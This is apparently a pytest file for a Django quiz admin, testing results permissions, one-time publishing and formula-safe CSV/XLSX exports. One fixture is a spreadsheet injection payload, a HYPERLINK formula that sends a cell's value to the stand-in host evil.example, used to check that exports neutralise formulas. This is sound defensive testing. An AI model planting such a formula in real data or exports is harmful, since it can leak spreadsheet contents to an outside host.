"""The organisers' results in the admin: who may see and publish them, publishing once, the full contact details
kept in the admin, and spreadsheets that run no formula."""

import datetime

import pytest
import time_machine

from django.contrib.auth.models import Group, Permission
from django.urls import reverse

from quizzes.models import CollectiveWinner, Publication, Winner
from quizzes.setup import ORGANISER_PERMISSIONS, ORGANISERS_GROUP, ensure_organisers
from quizzes.taking import start_attempt, submit_attempt
from tests.core.spreadsheet_checks import download_header_faults, export_values, formula_values

from .conftest import AFTER, CLOSES_AT, DURING, details, right_answers, wrong_answers

pytestmark = pytest.mark.django_db

JOURNALIST = "Báo Đắk Lắk · Phóng viên"
EDITOR = "Báo Đắk Lắk · Biên tập viên"
FORMULA_NAME = '=HYPERLINK("http://evil.example/?d="&A1,"Bấm vào đây")'


@pytest.fixture
def organisers(outlets):
    return ensure_organisers(outlets)


@pytest.fixture
def signed_in(client, make_user, organisers):
    def sign_in(*groups, language="en"):
        client.force_login(make_user("nguoi-dung", *groups, admin_language=language))
        return client

    return sign_in


@pytest.fixture
def onlookers(organisers):
    """Organisers who may see the results but not publish them."""
    group = Group.objects.create(name="Ban tổ chức · chỉ xem")
    group.permissions.set(organisers.permissions.exclude(codename="publish_results"))
    return group.name


def sent_attempt(quiz_round, phone, name, wrong=0, prediction=1, unit=None, minutes=5, at=DURING):
    attempt = start_attempt(quiz_round, details(phone=phone, name=name, unit=unit), at)
    answers = wrong_answers(attempt, wrong) if wrong else right_answers(attempt)
    submit_attempt(attempt.key, answers, prediction, at + datetime.timedelta(minutes=minutes))
    return attempt


@pytest.fixture
def closed_round(make_round, unit):
    quiz_round = make_round()
    sent_attempt(quiz_round, "0912345678", "Nguyễn Thị Hoa", prediction=2, unit=unit)
    sent_attempt(quiz_round, "0987654321", FORMULA_NAME, wrong=1)
    sent_attempt(quiz_round, "0905111222", "Y Bình Niê", prediction=2, minutes=7)
    return quiz_round


def urls(quiz, quiz_round):
    """Every results view, as (method, URL)."""
    return [
        ("get", reverse("quizzes_results:index")),
        ("get", reverse("quizzes_results:contest", args=[quiz.pk])),
        ("get", reverse("quizzes_results:export_ranking", args=[quiz.pk, quiz_round.pk]) + "?export=csv"),
        ("get", reverse("quizzes_results:export_participation", args=[quiz.pk]) + "?export=xlsx"),
        *publish_urls(quiz, quiz_round),
    ]


def publish_urls(quiz, quiz_round):
    round_url = reverse("quizzes_results:publish_round", args=[quiz.pk, quiz_round.pk])
    contest_url = reverse("quizzes_results:publish_contest", args=[quiz.pk])
    return [("get", round_url), ("post", round_url), ("get", contest_url), ("post", contest_url)]


def refused(response):
    """The admin's refusals: 403, or a redirect to the login or to the dashboard with a message."""
    return response.status_code == 403 or (
        response.status_code == 302 and not response["Location"].startswith("/admin/quizzes/")
    )


@time_machine.travel(AFTER, tick=False)
@pytest.mark.parametrize("who", ["signed out", JOURNALIST, EDITOR])
def test_who_is_no_organiser_is_refused_every_results_view(client, signed_in, quiz, closed_round, who):
    if who != "signed out":
        signed_in(who)
    for method, url in urls(quiz, closed_round):
        response = getattr(client, method)(url)
        assert refused(response), (who, method, url, response.status_code)
        if who == "signed out":
            assert response["Location"].startswith(reverse("wagtailadmin_login"))
    assert not Publication.objects.exists()


@time_machine.travel(AFTER, tick=False)
def test_an_organiser_without_the_publishing_permission_sees_but_cannot_publish(
    signed_in, quiz, closed_round, onlookers
):
    client = signed_in(onlookers)
    results = client.get(reverse("quizzes_results:contest", args=[quiz.pk]))
    assert results.status_code == 200
    assert "Publish this round" not in results.content.decode()
    for method, url in publish_urls(quiz, closed_round):
        assert refused(getattr(client, method)(url)), (method, url)
    assert not Publication.objects.exists()


@time_machine.travel(AFTER, tick=False)
def test_organisers_see_the_ranking_with_full_phone_numbers(signed_in, quiz, closed_round, unit):
    client = signed_in(ORGANISERS_GROUP)
    page = client.get(reverse("quizzes_results:contest", args=[quiz.pk])).content.decode()
    # Two entrants with every answer right (the true count 2); Hoa predicted 2 and was faster than Y Bình.
    assert page.index("0912345678") < page.index("0905111222") < page.index("0987654321")
    assert "0912***678" not in page
    assert "Trường THPT Buôn Ma Thuột" in page
    assert "Publish this round's results" in page


@time_machine.travel(AFTER, tick=False)
def test_a_replayed_publish_publishes_once_and_says_so(signed_in, quiz, closed_round):
    client = signed_in(ORGANISERS_GROUP)
    url = reverse("quizzes_results:publish_round", args=[quiz.pk, closed_round.pk])
    assert "Yes, publish the results" in client.get(url).content.decode()
    first = client.post(url, follow=True)
    again = client.post(url, follow=True)
    assert [str(m) for m in first.context["messages"]] == ["The results of Tuần 1 are published."]
    assert [str(m) for m in again.context["messages"]] == ["These results are published already."]
    publication = Publication.objects.get()
    assert (publication.round, publication.all_correct_count) == (closed_round, 2)
    assert list(Winner.objects.values_list("entrant__phone_key", flat=True)) == [
        "0912345678",
        "0905111222",
        "0987654321",
    ]


@time_machine.travel(DURING, tick=False)
def test_an_open_round_is_not_published(signed_in, quiz, make_round):
    quiz_round = make_round()
    client = signed_in(ORGANISERS_GROUP)
    response = client.post(
        reverse("quizzes_results:publish_round", args=[quiz.pk, quiz_round.pk]), follow=True
    )
    assert any("has not closed yet" in str(m) for m in response.context["messages"])
    assert not Publication.objects.exists()


@time_machine.travel(AFTER, tick=False)
def test_the_whole_contest_is_published_once_every_round_is(signed_in, quiz, closed_round, make_round):
    later = make_round(name="Tuần 2", opens_at=CLOSES_AT, closes_at=AFTER - datetime.timedelta(minutes=1))
    client = signed_in(ORGANISERS_GROUP)
    contest_url = reverse("quizzes_results:publish_contest", args=[quiz.pk])
    early = client.post(contest_url, follow=True)
    assert [str(m) for m in early.context["messages"]] == ["Publish the results of every round first."]
    for quiz_round in (closed_round, later):
        client.post(reverse("quizzes_results:publish_round", args=[quiz.pk, quiz_round.pk]), follow=True)
    page = client.get(reverse("quizzes_results:contest", args=[quiz.pk])).content.decode()
    assert "Publish the whole contest's results" in page
    published = client.post(contest_url, follow=True)
    assert [str(m) for m in published.context["messages"]] == ["The whole contest's results are published."]
    again = client.post(contest_url, follow=True)
    assert [str(m) for m in again.context["messages"]] == ["These results are published already."]
    assert Publication.objects.filter(round__isnull=True).count() == 1
    assert CollectiveWinner.objects.exists()


@time_machine.travel(AFTER, tick=False)
def test_a_round_of_another_contest_is_not_found(signed_in, quiz, closed_round):
    from .conftest import new_quiz

    other = new_quiz(title="Cuộc thi khác", slug="cuoc-thi-khac")
    client = signed_in(ORGANISERS_GROUP)
    url = reverse("quizzes_results:publish_round", args=[other.pk, closed_round.pk])
    assert client.post(url).status_code == 404
    assert not Publication.objects.exists()


@time_machine.travel(AFTER, tick=False)
@pytest.mark.parametrize("spreadsheet_format", ["csv", "xlsx"])
def test_the_ranking_export_holds_every_entrant_and_runs_no_formula(
    signed_in, quiz, closed_round, spreadsheet_format
):
    client = signed_in(ORGANISERS_GROUP)
    url = reverse("quizzes_results:export_ranking", args=[quiz.pk, closed_round.pk])
    response = client.get(url, {"export": spreadsheet_format})
    assert response.status_code == 200 and download_header_faults(response) == []
    values, formula_cells = export_values(response, spreadsheet_format)
    assert formula_values(values) == [] and formula_cells == []
    assert f"'{FORMULA_NAME}" in values
    assert "0912345678" in values and "0987654321" in values


@time_machine.travel(AFTER, tick=False)
@pytest.mark.parametrize("spreadsheet_format", ["csv", "xlsx"])
def test_the_participation_export_counts_each_unit(signed_in, quiz, closed_round, unit, spreadsheet_format):
    unit.name = "=1+1 Đơn vị"
    unit.save()
    client = signed_in(ORGANISERS_GROUP)
    url = reverse("quizzes_results:export_participation", args=[quiz.pk])
    response = client.get(url, {"export": spreadsheet_format, "round": closed_round.pk})
    assert response.status_code == 200 and download_header_faults(response) == []
    values, formula_cells = export_values(response, spreadsheet_format)
    assert formula_values(values) == [] and formula_cells == []
    assert "'=1+1 Đơn vị" in values


def test_an_unknown_format_is_not_found(signed_in, quiz, make_round):
    quiz_round = make_round()
    client = signed_in(ORGANISERS_GROUP)
    url = reverse("quizzes_results:export_ranking", args=[quiz.pk, quiz_round.pk])
    assert client.get(url, {"export": "pdf"}).status_code == 404


def test_setup_is_idempotent_and_gives_the_views_their_permissions(outlets, make_user):
    first = ensure_organisers(outlets)
    granted = set(first.permissions.values_list("codename", flat=True))
    again = ensure_organisers(outlets)
    assert again.pk == first.pk
    assert set(again.permissions.values_list("codename", flat=True)) == granted
    assert Group.objects.filter(name=ORGANISERS_GROUP).count() == 1
    assert first.page_permissions.count() == len(outlets)
    assert set(ORGANISER_PERMISSIONS) <= granted
    organiser = make_user("bantochuc", ORGANISERS_GROUP)
    for permission in [
        "quizzes.view_attempt",
        "quizzes.publish_results",
        *(
            f"quizzes.{action}_{model}"
            for model in ("quizround", "question")
            for action in ("add", "change", "delete")
        ),
    ]:
        assert organiser.has_perm(permission), permission
    assert Permission.objects.filter(codename="publish_results", content_type__app_label="quizzes").exists()


@pytest.mark.parametrize("who", [JOURNALIST, EDITOR])
def test_journalists_and_editors_never_reach_the_bank(signed_in, quiz, make_round, who):
    quiz_round = make_round()
    question = quiz_round.questions.first()
    client = signed_in(who)
    for url in [
        reverse("quizzes_round:index"),
        reverse("quizzes_round:add"),
        reverse("quizzes_round:edit", args=[quiz_round.pk]),
        reverse("quizzes_round:delete", args=[quiz_round.pk]),
        reverse("quizzes_question:index"),
        reverse("quizzes_question:edit", args=[question.pk]),
        reverse("quizzes_question:delete", args=[question.pk]),
    ]:
        assert refused(client.get(url)), url
    client.post(reverse("quizzes_question:delete", args=[question.pk]))
    assert question.__class__.objects.filter(pk=question.pk).exists()
    home = client.get(reverse("wagtailadmin_home")).content.decode()
    assert "Knowledge contests" not in home
